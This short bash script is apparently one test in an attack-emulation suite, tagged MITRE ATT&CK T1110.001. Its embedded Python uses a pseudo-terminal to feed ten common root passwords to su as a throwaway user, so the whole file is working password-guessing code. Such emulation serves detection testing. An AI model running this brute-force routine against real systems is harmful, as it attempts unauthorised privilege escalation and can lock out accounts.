#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1110.001
# tactic: credential-access
# what: su password guessing from a pty (python3 pty): 10 wrong root passwords by the throwaway user
. "$AT_LIB"
at_as_victim "$PY - <<'PYEOF'
import os, pty, time
for pw in ['123456', 'password', 'qwerty', 'letmein', 'admin', 'root', 'toor', 'changeme', 'welcome', 'monkey']:
    pid, fd = pty.fork()
    if pid == 0:
        os.execv('/bin/su', ['su', '-c', 'true', 'root'])
    buf = b''
    t = time.time() + 5
    while b'assword' not in buf and time.time() < t:
        try:
            buf += os.read(fd, 256)
        except OSError:
            break
    os.write(fd, pw.encode() + b'\n')
    try:
        while os.read(fd, 256):
            pass
    except OSError:
        pass
    os.waitpid(pid, 0)
PYEOF"
